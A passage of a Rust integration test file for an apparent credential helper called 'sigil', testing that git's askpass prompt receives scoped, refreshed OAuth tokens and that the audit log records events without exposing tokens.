            .filter(|l| l.contains(&format!("\"event\":\"{event}\",\"addresses\":[\"test/me")))
            .count()
    };
    assert_eq!((count("pip"), count("refresh")), (2, 1), "{log}");
    for t in [&first, &second] {
        assert!(!log.contains(t.as_str()), "a token in the audit log");
    }
}

/// git's askpass prompt for an origin mapped to an OAuth account gets its token through
/// `sigil askpass`; after the expiry it gets one refreshed against the real authorization
/// server, and the refresh and each answer are in the audit log.
#[test]
fn askpass_answers_refreshed_tokens() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let config = sb.home.join("config.toml");
    let mut settings = std::fs::read_to_string(&config).unwrap();
    settings.push_str("\n[askpass.\"https://me@git.example.test\"]\naddress = \"test/me\"\n");
    std::fs::write(&config, settings).unwrap();
    let ask = |prompt: &str| {
        let out = sb.cmd("sigil-askpass").arg(prompt).output().unwrap();
        (out.status.code(), String::from_utf8(out.stdout).unwrap())
    };
    let token = || {
        let (code, out) = ask("Password for 'https://me@git.example.test': ");
        assert_eq!(code, Some(0), "{out}");
        out.strip_suffix('\n').unwrap().to_owned()
    };
    let first = token();
    assert_eq!(first, text_no_refresh(&sb, "test/me"));
    // Another origin gets nothing, and nothing is refreshed for it.
    assert_eq!(
        ask("Password for 'https://me@git.example.test:8443': "),
        (Some(1), String::new())
    );

    expire(&sb);
    let second = token();
    assert_ne!(second, first);
    assert!(active(srv, &second));
    assert_eq!(second, text_no_refresh(&sb, "test/me"));

    let log = std::fs::read_to_string(sb.home.join("audit.log")).unwrap();
    let askpass: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("\"binary\":\"sigil-askpass\""))
        .collect();
    let count = |event: &str| {
        askpass
            .iter()
            .filter(|l| l.contains(&format!("\"event\":\"{event}\",\"addresses\":[\"test/me")))
            .count()
    };
    assert_eq!((count("askpass"), count("refresh")), (2, 1), "{log}");
    for t in [&first, &second] {
        assert!(!log.contains(t.as_str()), "a token in the audit log");
    }
}
